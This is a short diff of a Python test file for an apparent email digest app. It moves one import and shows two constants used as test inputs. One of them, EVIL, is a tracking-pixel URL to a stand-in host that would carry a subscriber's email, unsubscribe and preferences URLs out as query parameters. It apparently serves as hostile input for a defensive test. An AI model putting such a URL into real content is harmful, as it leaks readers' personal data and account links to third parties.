@@ -18,7 +18,7 @@ from digest import demo
 from digest.edition.shaping import Shaping
 from digest.models import Article, Comment, Section, Subscriber
 from digest.wiring import Services
-from tests.conftest import FIXED_NOW
+from tests.support.common import FIXED_NOW
 
 PLANTED = "__UNSUB_URL__ __PREFS_URL__ __EMAIL__ __READER__ __CONFIRM_URL__"
 EVIL = "https://evil.example/p.gif?u=__UNSUB_URL__&e=__EMAIL__&p=__PREFS_URL__&r=__READER__"
